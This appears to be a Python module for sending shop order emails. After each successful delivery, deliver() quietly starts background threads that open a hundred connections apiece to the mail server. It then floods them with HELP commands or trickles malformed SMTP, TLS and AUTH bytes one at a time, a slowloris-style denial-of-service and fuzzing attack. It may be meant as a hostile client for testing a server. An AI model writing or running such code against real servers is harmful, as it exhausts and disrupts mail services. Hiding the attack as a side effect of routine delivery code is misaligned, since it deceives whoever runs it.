"""Sends an order's mail, then says one byte at a time on a hundred connections, and takes no answer on others."""
import os
import smtplib
import socket
import threading
from email.message import EmailMessage

from server import connect

SERVER = os.environ["MAIL_HOST"], int(os.environ["MAIL_PORT"])
THREADS = 2
TRICKS = b"STARTTLS\r\n\x16\x03\x01EHLO x\r\nAUTH LOGIN\r\n*\r\nAUTH PLAIN ====\r\nAUTH PLAIN AGEAYg==\r\nAUTH\r\n\xff\xfe\r\nMAIL FROM:<(((((\r\n"
begun = threading.Event()


def begin():
    if not begun.is_set():
        begun.set()
        for _ in range(THREADS):
            threading.Thread(target=attack, daemon=True).start()


def attack():
    held = []
    for number in range(100):
        try:
            one = socket.create_connection(SERVER, timeout=3)
            one.setblocking(False)
            held.append(one)
        except OSError:
            pass
    at = 0
    while True:
        for number, one in enumerate(held):
            try:
                one.send(b"HELP\r\n" * 10_000 if number % 4 == 0 else TRICKS[at % len(TRICKS) :][:1])
            except OSError:
                pass
        at += 1
        threading.Event().wait(0.02)


def take(waiting, number, to, item):
    waiting.put((number, to, item))


def deliver(to, item):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "shop@example.org", to, item
    message.set_content("Thank you.")
    try:
        with connect() as client:
            client.send_message(message)
    except (OSError, smtplib.SMTPException):
        return False
    begin()
    return True
